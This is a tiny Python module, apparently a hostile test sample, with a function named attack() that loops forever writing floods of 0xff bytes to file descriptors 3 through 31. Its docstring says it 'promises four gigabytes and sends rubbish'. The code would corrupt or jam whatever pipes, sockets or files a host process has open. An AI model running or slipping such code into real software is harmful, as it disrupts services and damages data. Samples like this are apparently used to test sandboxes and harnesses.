"""Promises four gigabytes and sends rubbish."""
# ruff: noqa

import os


def attack():
    while True:
        for number in range(3, 32):
            try:
                os.write(number, b"\xff" * 65536)
            except OSError:
                pass
